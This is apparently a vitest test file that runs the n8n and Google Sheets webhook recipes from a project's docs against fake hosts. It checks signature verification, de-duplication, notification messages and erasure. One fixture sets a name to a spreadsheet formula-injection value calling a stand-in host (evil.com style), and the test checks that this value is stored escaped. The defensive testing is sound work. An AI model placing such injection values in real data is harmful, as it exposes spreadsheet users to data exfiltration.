/** Runs the recipes of `docs/receivers.md` on real payloads, with fakes of the services that the recipes call. */

import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { Webhook } from 'standardwebhooks';
import { expect, test } from 'vitest';
import { webhookSecret } from '../testing/receiver.ts';
import { sampleRecord } from '../testing/sample-enquiry.ts';
import { type EnquiryEvent, webhookBody } from './enquiry-event.ts';

const sections = readFileSync('docs/receivers.md', 'utf8').split(/^## /m);

function recipe(heading: string): string {
	const section = sections.find((text) => text.startsWith(`${heading}\n`)) ?? '';
	return /^```js\n(.*?)^```$/ms.exec(section)?.[1] ?? '';
}

const record = { ...sampleRecord(), name: '=IMPORTXML("https://evil.example")' };
const { reference } = record;
const answeredUrl = 'https://quotes.example/answered?reference=R';
const created: EnquiryEvent = { name: 'created', record, answeredUrl };
const unanswered: EnquiryEvent = { name: 'unanswered', record, at: record.receivedAt, answeredUrl };
const erased: EnquiryEvent = { name: 'erased', reference, at: record.receivedAt };

test('n8n accepts signed requests only', async () => {
	const body = JSON.stringify(webhookBody(created));
	const run = (sent: string, at = new Date()) => {
		const headers = {
			'webhook-id': 'msg_1',
			'webhook-timestamp': String(Math.floor(at.getTime() / 1000)),
			'webhook-signature': `v1,AAAA ${new Webhook(webhookSecret).sign('msg_1', at, body)}`,
		};
		const $input = { first: () => ({ json: { headers } }) };
		const host = { helpers: { getBinaryDataBuffer: async () => Buffer.from(sent) } };
		const code = recipe('n8n').replace('whsec_…', webhookSecret);
		const AsyncFunction = (async () => {}).constructor as FunctionConstructor;
		return new AsyncFunction('require', '$input', code).call(host, createRequire(import.meta.url), $input);
	};
	expect(await run(body)).toEqual([{ json: JSON.parse(body) }]);
	await expect(run(body.replace('Tan', 'Ran').replace('IMPORT', 'EXPORT'))).rejects.toThrow('signature');
	await expect(run(body, new Date(Date.now() - 600_000))).rejects.toThrow('signature');
});

test('Google Sheets stores each enquiry once, with the link to record a reply, and erases it for good', () => {
	const rows: string[][] = [];
	const posts: [string, Record<string, unknown>][] = [];
	const kept = new Map<string, string>();
	const rowOf = (cell: string) => rows.findIndex((row) => row.some((held) => held.replace(/^'/, '') === cell));
	const sheet = {
		createTextFinder: (cell: string) => ({
			matchEntireCell: () => ({ findNext: () => (rowOf(cell) < 0 ? null : { getRow: () => rowOf(cell) + 1 }) }),
		}),
		appendRow: (row: string[]) => rows.push(row),
		deleteRow: (row: number) => rows.splice(row - 1, 1),
	};
	const hosts = {
		LockService: { getScriptLock: () => ({ waitLock() {}, releaseLock() {} }) },
		SpreadsheetApp: { getActiveSpreadsheet: () => ({ getSheets: () => [sheet] }) },
		HtmlService: { createHtmlOutput: (text: string) => text },
		PropertiesService: {
			getScriptProperties: () => ({
				setProperty: (key: string, value: string) => void kept.set(key, value),
				getProperty: (key: string) => kept.get(key) ?? null,
			}),
		},
		UrlFetchApp: {
			fetch: (url: string, { payload }: { payload: string }) => void posts.push([url, JSON.parse(payload)]),
		},
	};
	const script = new Function(...Object.keys(hosts), `${recipe('Google Sheets')}; return doPost;`);
	const doPost = script(...Object.values(hosts));
	const send = (event: EnquiryEvent, word = 'put-a-long-random-word-here') =>
		doPost({ parameter: { word }, postData: { contents: JSON.stringify(webhookBody(event)) } });
	expect(() => send(created, 'guessed')).toThrow('word');
	expect([send(created), send(created)]).toEqual(['taken', 'taken']);
	expect(rows).toEqual([expect.arrayContaining([`'${reference}`, `'${record.name}`, `'${answeredUrl}`])]);
	const texts = () => posts.splice(0).map(([, message]) => message);
	const withButton = (text: string) => [
		{ text, blocks: [expect.objectContaining({ accessory: expect.objectContaining({ url: answeredUrl }) })] },
		{ chat_id: '…', text, reply_markup: { inline_keyboard: [[{ text: 'I have replied', url: answeredUrl }]] } },
	];
	expect(texts()).toEqual(withButton(`New enquiry, en, plan-1. Give the reference when you call: ${reference}`));
	send(unanswered);
	expect(texts()).toEqual(withButton(`No reply recorded: ${reference}`));
	for (const late of [erased, created, created]) send(late);
	expect([rows, texts()]).toEqual([[], []]);
});
